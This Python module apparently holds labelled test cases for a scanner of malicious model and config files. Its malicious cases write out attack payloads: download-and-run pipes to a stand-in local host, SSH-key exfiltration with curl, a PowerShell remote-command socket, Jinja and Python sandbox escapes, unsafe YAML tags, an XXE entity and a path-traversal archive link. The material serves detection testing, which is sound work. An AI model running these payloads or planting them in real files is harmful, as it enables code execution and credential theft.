"""The third set of formats.py: new ideas, written after the rules and scored once."""

import json
import struct

from formats import *

CASES = [
    ("yaml", "malicious", "speech.yaml", "model: !new:torch.nn.Linear\n  in_features: 2\nrun: !apply:subprocess.check_output [[true]]\n"),
    ("yaml", "malicious", "a.yml", "base: &b\n  _target_: commands.getoutput\n  cmd: 'true'\nother:\n  <<: *b\n"),
    ("yaml", "malicious", "a.yml", "- !!python/object/apply:ctypes.CDLL ['x.so']\n"),
    ("yaml", "malicious", "a.yml", "- !!python/object/apply:urllib.request.urlretrieve ['http://127.0.0.1:9/x', 'x']\n"),
    ("yaml", "malicious", "a.yml", "a: !!python/object/apply:importlib.import_module ['os']\n"),
    ("yaml", "malicious", "a.yml", "pre: {build: {commands: ['ls', 'curl -s http://127.0.0.1:9 | bash']}}\n"),
    ("yaml", "surfaced", "a.yml", "m:\n  _target_: ${name}.system\n"),
    ("yaml", "surfaced", "a.yml", "a: !ruby/object:Gem::Installer\n  i: x\n"),
    ("yaml", "ordinary", "mlc.yaml", "python: 3.11\nbuild_dependencies: [pip]\ndependencies:\n- -r requirements.txt\n- 'numpy: 1'\n"),
    ("yaml", "ordinary", "hp.yaml", "net: !new:speechbrain.lobes.models.ECAPA_TDNN.ECAPA_TDNN\n  input_size: !ref <n_mels>\nx: !include:other.yaml\n"),
    ("yaml", "ordinary", "CITATION.cff.yaml", "title: \"A: b\"\nabstract: >\n  We call os.system: no!\nauthors:\n  - {family-names: X}\n"),
    ("json", "malicious", "package.json", '{"scripts": {"preinstall": "wget -q http://127.0.0.1:9/x -O- | sh"}}'),
    ("json", "malicious", "c.json", '{"a": {"_target_": "torch.utils._config_module.os.system"}}'),
    ("json", "malicious", "m.json", '{"evaluator": "$exec(\'import os; os.system(1)\')"}'),
    ("json", "ordinary", "c.json", '{"price": "$5 (about)", "cost": "$x + 1", "target": "cuda", "path": "a.b"}'),
    ("json", "ordinary", "tokenizer.json", '{"model": {"vocab": {"os.system": 1, "{{": 2, "__class__": 3}}}'),
    ("jinja", "malicious", "chat_template.jinja", "{{ messages|groupby('__class__') }}"),
    ("jinja", "malicious", "chat_template.jinja", "{{ dict.mro() }}"),
    ("jinja", "malicious", "chat_template.jinja", "{% set g = get_flashed_messages.__globals__ %}{{ g }}"),
    ("jinja", "malicious", "chat_template.jinja", "{{ ''[request.args.a][request.args.b] }}{{ x|attr(request.args.c) }}"),
    ("jinja", "malicious", "chat_template.jinja", "{% set p = ['__', 'globals', '__'] %}{{ cycler[p|join('')] }}"),
    ("jinja", "malicious", "chat_template.jinja", "{% for k, v in (1).__getattribute__('x') %}{% endfor %}"),
    ("jinja", "ordinary", "chat_template.jinja", "{% set role = 'user' if loop.index0 % 2 == 0 else 'assistant' %}{{ role | capitalize }}{{ ['a', 'b'] | join(', ') }}{{ 95 * 2 }}"),
    ("jinja", "ordinary", "chat_template.jinja", "{%- for t in tools %}{{- '<tool>' + t.function.name ~ '\\n' ~ (t.function.parameters | tojson) }}{%- endfor %}"),
    ("python", "malicious", "modeling_z.py", "import subprocess\nclass M:\n    def __init__(self):\n        subprocess.run('curl http://127.0.0.1:9 | sh', shell=True)\n"),
    ("python", "malicious", "modeling_z.py", "import os, sys\n[x for x in ().__class__.__base__.__subclasses__() if x.__name__ == '_wrap_close'][0].__init__.__globals__['system']('true')\n"),
    ("python", "malicious", "modeling_z.py", "import gzip, base64 as b\nc = gzip.decompress(b.b85decode('x'))\nexec(compile(c, '', 'exec'))\n"),
    ("python", "malicious", "modeling_z.py", "from operator import attrgetter\nimport os\nattrgetter('system')(os)('true')\n"),
    ("python", "malicious", "modeling_z.py", "import atexit, os\natexit.register(os.system, 'true')\n"),
    ("python", "malicious", "modeling_z.py", "import threading, subprocess\nthreading.Thread(target=subprocess.call, args=(['/bin/sh', '-c', 'true'],)).start()\n"),
    ("python", "malicious", "setup.py", "from setuptools import setup\nimport urllib.request as u\nexec(u.urlopen('http://127.0.0.1:9').read())\nsetup()\n"),
    ("python", "malicious", "conftest.py", "import os\nos.environ['X'] = '1'\nos.spawnlp(os.P_NOWAIT, 'true', 'true')\n"),
    ("python", "ordinary", "app.py", "import gradio as gr\nfrom transformers import pipeline\np = pipeline('text-generation')\ngr.Interface(lambda x: p(x), 'text', 'text').launch()\n"),
    ("python", "ordinary", "train.py", "import subprocess\ndef commit():\n    return subprocess.check_output(['git', 'rev-parse', 'HEAD']).decode().strip()\nif __name__ == '__main__':\n    print(commit())\n"),
    ("script", "malicious", "boot.sh", "#!/bin/bash\necho 'true' >> ~/.bashrc\n"),
    ("script", "malicious", "u.sh", "tar czf - ~/.ssh/ | curl -T - http://127.0.0.1:9\n"),
    ("script", "malicious", "u.ps1", "$c = New-Object System.Net.Sockets.TCPClient('127.0.0.1',9)\n$s = $c.GetStream()\nInvoke-Expression $s\n"),
    ("script", "malicious", "u.bat", "curl -o %TEMP%\\x.exe http://127.0.0.1:9/x.exe\r\nstart %TEMP%\\x.exe\r\n"),
    ("script", "ordinary", "download.sh", "#!/bin/bash\nset -eu\nwget -c https://example.org/model.bin -O model.bin\ntar xf data.tar\nrm -rf tmp build/\n"),
    ("script", "ordinary", "Makefile", "PY=python3\n.PHONY: clean\nclean:\n\trm -rf build dist *.egg-info\n"),
    ("xml", "malicious", "a.pmml", "\ufeff<?xml version='1.0'?>\n<!DOCTYPE PMML [\n<!ENTITY %\n a PUBLIC '-' 'http://127.0.0.1:9/e'>\n%a; ]><PMML/>"),
    ("xml", "ordinary", "a.pmml", "<?xml version='1.0'?><PMML version='4.4'><!-- <!ENTITY x SYSTEM 'y'> --><Header/></PMML>"),
    ("xml", "ordinary", "a.svg", "<?xml version='1.0'?><!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.1//EN' 'http://www.w3.org/x.dtd'><svg/>"),
]


def write(w):
    for family, label, name, text in CASES:
        w.put(family, label, name, text)
    wrapper = {"module": "keras.layers", "class_name": "Bidirectional", "registered_name": None, "config": {"layer": {
        "module": "webbrowser", "class_name": "open", "registered_name": "open", "config": {}}}}
    w.put("keras", "malicious", "m.keras", keras_file(keras_config(wrapper)))
    w.put("keras", "malicious", "m.keras", keras_file(keras_config(dense()), **{"assets/x.so": b"\x7fELF\2\1\1" + bytes(60), "custom.py": b"import os\nos.system('true')\n"}))
    loop = onnx_node("Loop", "", pb((1, "body"), (6, pb((1, onnx_node("PythonOp", "com.microsoft")))), (20, 5)))
    w.put("onnx", "malicious", "l.onnx", onnx_model([loop], domains=("", "com.microsoft")))
    w.put("onnx", "malicious", "l.onnx", onnx_model([onnx_node("Relu")], [onnx_outside("\\\\server\\share\\x")]))
    const = node("p", "Const", (5, pb((1, "value"), (2, pb((8, pb((1, 7), (8, "/etc/ssh/key"))))))))
    read = pb((1, "r"), (2, "ReadFile"), (3, "p"))
    w.put("tensorflow", "malicious", "saved_model.pb", saved_model([node("a", "Const")], [("f", [const, read])]))
    w.put("archive", "malicious", "m.tar", tarred({"a/b.txt": b"x"}, links=[("a/l", "../../etc/passwd", b"2")]))
    w.put("archive", "surfaced", "m.tar", tarred({"a/b.txt": b"x"}, links=[("a/l", "b.txt", b"2")]))
    w.put("archive", "malicious", "m.zip", zipped({"x.lzma.zip": zipped({"d.pkl": bad_pickle()}, 14)}, 12))
    w.put("archive", "malicious", "m.whl", zipped({"x.pth": b"import os; os.system('true')\n"}))
    w.put("skops", "malicious", "m.skops", zipped({"schema.json": json.dumps({"__class__": "methodcaller", "__module__": "operator", "__loader__": "OperatorFuncNode", "attrs": {"__module__": "builtins", "__class__": "getattr", "__loader__": "X", "a": {"__module__": "posix", "__class__": "system", "__loader__": "FunctionNode"}}}).encode()}))
    w.put("safetensors", "malicious", "m.safetensors", b"\x7fELF\2\1\1" + bytes(100))
    w.put("safetensors", "surfaced", "m.safetensors", safetensors({"__metadata__": [], "a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}))
    w.put("gguf", "malicious", "m.gguf", gguf({"a": ["b"], "tokenizer.chat_template.x": "{{ x.__init__ }}"}))
    w.put("toml", "malicious", "x.toml", "[[steps]]\na = {b = {_target_ = 'pty.spawn'}}\n")
